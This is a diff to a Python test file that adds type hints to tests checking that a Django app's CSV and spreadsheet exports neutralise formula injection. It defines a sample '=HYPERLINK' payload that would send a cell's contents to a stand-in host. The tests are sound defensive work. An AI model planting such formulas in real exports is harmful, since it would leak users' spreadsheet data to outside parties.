@@ -5,10 +5,12 @@ from __future__ import annotations
 import csv
 import datetime
 import io
-from collections.abc import Sequence
+from collections.abc import Iterator, Sequence
 
 import pytest
+from django.contrib.auth.models import User
 from django.core.cache import cache
+from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
@@ -17,18 +19,18 @@ from plans import services as plan_services
 from tests.plans.conftest import add_need
 from tests.sprints.conftest import make_sprint
 from themes.exports import FORMULA_START, Sheet, csv_bytes, spreadsheet_safe, xlsx_bytes
-from themes.models import RelocationPhase, SprintMethod, ValueChainStep, Visibility
+from themes.models import Municipality, RelocationPhase, SprintMethod, ValueChainStep, Visibility
 
 PAYLOAD = '=HYPERLINK("http://example.test/?x="&A1,"klicka")'
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_text_starting_like_a_formula_is_neutralised(start):
+def test_text_starting_like_a_formula_is_neutralised(start: str) -> None:
     assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
 
 
 @pytest.mark.parametrize("value", ["Kiruna", "1-2", "", -5, 2.5, None, datetime.date(2026, 1, 1)])
-def test_other_cells_are_written_as_they_are(value):
+def test_other_cells_are_written_as_they_are(value: object) -> None:
     assert spreadsheet_safe(value) == value
 
 
@@ -53,13 +55,13 @@ def _assert_inert(cells: Sequence[object]) -> None:
     assert any(t.startswith("'=HYPERLINK") for t in texts)
 
 
-def test_the_writers_guard_headers_and_rows():
+def test_the_writers_guard_headers_and_rows() -> None:
     _assert_inert(_csv_cells(csv_bytes([[PAYLOAD], ["x", PAYLOAD]])))
     _assert_inert(_xlsx_cells(xlsx_bytes([Sheet(title=PAYLOAD, header=[PAYLOAD], rows=[[1, PAYLOAD]])])))
 
 
 @pytest.fixture
-def formula_labels(db):
+def formula_labels(db: None) -> Iterator[None]:
     """A coordinator's edit puts a formula into taxonomy labels that every export shows."""
     for model, code in (
         (RelocationPhase, "visit"),
@@ -76,8 +78,8 @@ def formula_labels(db):
 
 @pytest.mark.django_db
 def test_every_export_neutralises_a_formula_in_a_taxonomy_label(
-    client, formula_labels, coordinator, lead_kiruna, kiruna
-):
+    client: Client, formula_labels: None, coordinator: User, lead_kiruna: User, kiruna: Municipality
+) -> None:
     make_sprint(lead_kiruna, kiruna, title=PAYLOAD, visibility=Visibility.PUBLIC)
     plan = plan_services.action_plan_create(actor=lead_kiruna, municipality=kiruna, period="2026")
     add_need(lead_kiruna, plan, text=PAYLOAD)
